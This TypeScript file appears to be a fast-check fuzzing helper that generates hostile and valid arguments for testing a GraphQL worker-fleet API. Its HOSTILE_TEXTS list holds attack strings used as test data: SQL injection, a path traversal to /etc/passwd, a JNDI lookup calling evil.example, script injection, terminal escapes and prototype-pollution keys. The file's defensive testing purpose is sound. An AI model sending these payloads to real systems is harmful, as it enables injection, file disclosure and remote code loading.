import fc from "fast-check";
import {
  type GraphQLInputType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
} from "graphql";
import { REQUEST_LIMITS } from "../../src/http/limits";

/** `arbitrary` once in `oneIn` draws, else null. (fc.option's `freq` is the other way round: null once in freq.) */
export function rarely<T>(arbitrary: fc.Arbitrary<T>, oneIn: number): fc.Arbitrary<T | null> {
  return fc.oneof({ weight: oneIn - 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary });
}

/** Real values of this fleet, so that generated arguments reach past "not found" into the services. */
export interface PlausibleValues {
  /** Ids of workers that exist. */
  readonly workerIds: readonly string[];
  readonly regions: readonly string[];
  readonly instanceTypes: readonly string[];
}

/** Characters no name, tag or reason should carry: C0 (NUL, ESC, CR/LF), DEL, C1, and look-alikes. */
const CONTROL_CHARACTERS = [
  "\u0000",
  "\u0001",
  "\u0007",
  "\u0008",
  "\t",
  "\n",
  "\r",
  "\r\n",
  "\u000b",
  "\u000c",
  "\u001b",
  "\u007f",
  "\u0080",
  "\u0085",
  "\u009b",
  "\u009f",
  "\u2028",
  "\u2029",
  "\u202e",
  "\u200b",
  "\ufeff",
  "\ud800",
  "\udfff",
];

/** Whole hostile texts: terminal escapes, injections, paths, format strings. */
const HOSTILE_TEXTS = [
  "",
  " ",
  "\u001b]0;owned\u0007",
  "\u001b[2J\u001b[H",
  "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\",
  "\u009b31m",
  "'; drop table workers; --",
  '" or 1=1 --',
  "../../../../etc/passwd",
  "%s%s%s%n",
  "$" + "{jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>",
  "__proto__",
  "constructor",
  "prototype",
  "null",
  "undefined",
  "NaN",
  "-0",
  "\u0000\u0000\u0000",
  "🦄".repeat(64),
  "ｗｏｒｋｅｒ",
];

const controlCharacter = fc.constantFrom(...CONTROL_CHARACTERS);

/** Text with control characters spliced into ordinary words. */
const textWithControls = fc
  .array(fc.oneof(fc.string({ maxLength: 8 }), controlCharacter), { minLength: 1, maxLength: 8 })
  .map((parts) => parts.join(""));

/** Sizes around the body limit: a string this long cannot fit in a request, or only just. */
const hugeString = fc
  .tuple(
    fc.constantFrom(
      1_000,
      10_000,
      64 * 1024,
      REQUEST_LIMITS.maxBodyBytes - 200,
      REQUEST_LIMITS.maxBodyBytes + 1,
    ),
    fc.constantFrom("a", "\u0000", "é", "🦄", "\u001b[0m"),
  )
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)));

/** Hostile text; `huge` allows strings around the body limit (not inside long lists: the body would be gigabytes). */
export function hostileString(huge: boolean): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: textWithControls },
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
    { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 300 }) },
    { weight: huge ? 1 : 0, arbitrary: hugeString },
  );
}

/** Out of GraphQL's Int range, not integers, or numbers only by name. */
const hostileInt: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer({ min: -(2 ** 31), max: 2 ** 31 - 1 }),
  fc.constantFrom(0, -1, 1, 500, 501, 2 ** 31, -(2 ** 31) - 1, 2 ** 53 + 1, -(2 ** 53), 1e308, -1e308),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom("NaN", "Infinity", "-Infinity", "1e3", "0x10", "10", "", "1_000"),
);

const hostileFloat: fc.Arbitrary<unknown> = fc.oneof(
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(0, -0, -1, 1e308, -1e308, 5e-324, 2 ** 53 + 1),
  fc.constantFrom("NaN", "Infinity", "-Infinity", "1e400", "0.5", ""),
);

/** Instants that are malformed, impossible, or at the ends of what Date can hold. */
const hostileDateTime: fc.Arbitrary<unknown> = fc.oneof(
  fc
    .date({
      min: new Date("1970-01-01T00:00:00Z"),
      max: new Date("2100-01-01T00:00:00Z"),
      noInvalidDate: true,
    })
    .map((date) => date.toISOString()),
  fc.constantFrom(
    "2026-13-45T99:99:99Z",
    "2026-02-30T00:00:00Z",
    "2026-11-27T09:30:00",
    "2026-11-27",
    "0000-00-00T00:00Z",
    "9999-12-31T23:59:59.999Z",
    "+275760-09-13T00:00:00Z",
    "-271821-04-20T00:00:00Z",
    "2026-11-27T09:30:00+99:99",
    "2026-11-27T09:30:00.1234567890123456789Z",
    "yesterday",
    "now",
    "",
    "\u00002026-11-27T09:30:00Z",
  ),
  fc.constantFrom(0, -1, 1e20, 1_764_000_000_000),
);

/** Values of the wrong kind altogether: an object for a string, a list for a scalar, deep nesting. */
export const wrongTyped: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    {},
    { a: 1 },
    // JSON.parse makes "__proto__" an own key, as a body on the wire does.
    JSON.parse('{"__proto__": {"polluted": true}}'),
    [],
    [1, "a", null],
    true,
    false,
    0,
    1.5,
    "x",
  ),
  fc.nat({ max: 200 }).map((depth) => deeplyNestedList(depth)),
  fc.jsonValue({ maxDepth: 3 }),
);

function deeplyNestedList(depth: number): unknown {
  let value: unknown = "deep";
  for (let level = 0; level < depth; level += 1) {
    value = [value];
  }
  return value;
}

function plausibleId(plausible: PlausibleValues, huge: boolean): fc.Arbitrary<unknown> {
  const known =
    plausible.workerIds.length === 0
      ? fc.uuid()
      : fc.oneof(fc.constantFrom(...plausible.workerIds), fc.uuid());
  return fc.oneof(
    { weight: 4, arbitrary: known },
    {
      weight: 1,
      arbitrary: known.map((id) => `stop.${String(id)}`),
    },
    { weight: 1, arbitrary: fc.constantFrom("meta", "id", "events", "stalled-check", "1", "0", "-1") },
    { weight: 1, arbitrary: fc.integer() },
    { weight: 2, arbitrary: hostileString(huge) },
  );
}

function plausibleString(plausible: PlausibleValues, huge: boolean): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 2, arbitrary: fc.constantFrom(...plausible.regions, ...plausible.instanceTypes) },
    { weight: 2, arbitrary: fc.string({ minLength: 1, maxLength: 20 }) },
    { weight: 5, arbitrary: hostileString(huge) },
  );
}

function scalarValue(name: string, plausible: PlausibleValues, huge: boolean): fc.Arbitrary<unknown> {
  switch (name) {
    case "ID":
      return plausibleId(plausible, huge);
    case "String":
      return plausibleString(plausible, huge);
    case "Int":
      return hostileInt;
    case "Float":
      return hostileFloat;
    case "Boolean":
      return fc.oneof(
        { weight: 4, arbitrary: fc.boolean() },
        { weight: 1, arbitrary: fc.constantFrom("true", 0, 1) },
      );
    case "DateTime":
      return hostileDateTime;
    default:
      return hostileString(huge);
  }
}

/**
 * A value for an argument of `type`: mostly of the right kind but hostile in
 * content, sometimes of the wrong kind, sometimes null (for a non-null too).
 */
export function valueFor(
  type: GraphQLInputType,
  plausible: PlausibleValues,
  huge = true,
): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) {
    return fc.oneof(
      { weight: 12, arbitrary: valueFor(type.ofType, plausible, huge) },
      { weight: 1, arbitrary: fc.constant(null) },
    );
  }
  const wellTyped = ((): fc.Arbitrary<unknown> => {
    if (isListType(type)) {
      const element = valueFor(type.ofType, plausible, huge);
      const smallElement = valueFor(type.ofType, plausible, false);
      return fc.oneof(
        { weight: 4, arbitrary: fc.array(element, { maxLength: 4 }) },
        { weight: 1, arbitrary: element },
        { weight: huge ? 1 : 0, arbitrary: fc.array(smallElement, { minLength: 200, maxLength: 1200 }) },
      );
    }
    if (isEnumType(type)) {
      const values = type.getValues().map((value) => value.name);
      return fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom(...values) },
        {
          weight: 1,
          arbitrary: fc.oneof(
            fc.constantFrom("SUPERUSER", "ROOT", "admin", "viewer", "", "ADMIN ", "__proto__", 1),
            fc.constantFrom(...values).map((value) => value.toLowerCase()),
          ),
        },
      );
    }
    if (isInputObjectType(type)) {
      const fields = Object.values(type.getFields());
      const entries = fields.map((field) =>
        fc.oneof(
          {
            weight: 6,
            arbitrary: valueFor(field.type, plausible, huge).map((value) => [field.name, value] as const),
          },
          { weight: 1, arbitrary: fc.constant(null) },
        ),
      );
      const unknownField = rarely(
        fc.tuple(fc.constantFrom("admin", "__proto__", "role", "x"), wrongTyped),
        8,
      );
      return fc.tuple(fc.tuple(...entries), unknownField).map(([present, extra]) => {
        const object: Record<string, unknown> = {};
        for (const entry of present) {
          if (entry !== null) {
            object[entry[0]] = entry[1];
          }
        }
        if (extra !== null) {
          Object.defineProperty(object, extra[0], { value: extra[1], enumerable: true, writable: true });
        }
        return object;
      });
    }
    if (isScalarType(type)) {
      return scalarValue(type.name, plausible, huge);
    }
    return wrongTyped;
  })();
  return fc.oneof({ weight: 10, arbitrary: wellTyped }, { weight: 1, arbitrary: wrongTyped });
}

/** Clean words, as a careful client writes names, reasons and tag values. */
const cleanText = fc.stringMatching(/^[a-z][a-z0-9-]{0,20}$/);

function validScalar(name: string, plausible: PlausibleValues): fc.Arbitrary<unknown> {
  switch (name) {
    case "ID":
      return plausible.workerIds.length === 0 ? fc.uuid() : fc.constantFrom(...plausible.workerIds);
    case "String":
      return fc.oneof(fc.constantFrom(...plausible.regions, ...plausible.instanceTypes), cleanText);
    case "Int":
      return fc.integer({ min: 1, max: 50 });
    case "Float":
      return fc.double({ min: 1, max: 600, noNaN: true });
    case "Boolean":
      return fc.boolean();
    case "DateTime":
      return fc
        .integer({ min: 60_000, max: 7 * 24 * 3_600_000 })
        .map((ahead) => new Date(Date.UTC(2026, 11, 1) + ahead).toISOString());
    default:
      return cleanText;
  }
}

/**
 * A value a careful client would send for `type`: real worker ids, allowed
 * regions, in-range numbers, known enum values, every required field. Mixed
 * with hostile arguments, it takes requests past validation into the
 * services, where a refusal must still write nothing.
 */
export function validValueFor(type: GraphQLInputType, plausible: PlausibleValues): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) {
    return validValueFor(type.ofType, plausible);
  }
  if (isListType(type)) {
    return fc.array(validValueFor(type.ofType, plausible), { maxLength: 3 });
  }
  if (isEnumType(type)) {
    return fc.constantFrom(...type.getValues().map((value) => value.name));
  }
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields());
    return fc
      .tuple(
        ...fields.map((field) =>
          isNonNullType(field.type)
            ? validValueFor(field.type, plausible).map((value) => [field.name, value] as const)
            : fc.option(validValueFor(field.type, plausible).map((value) => [field.name, value] as const)),
        ),
      )
      .map((entries) => Object.fromEntries(entries.filter((entry) => entry !== null)));
  }
  if (isScalarType(type)) {
    return validScalar(type.name, plausible);
  }
  return fc.constant(null);
}
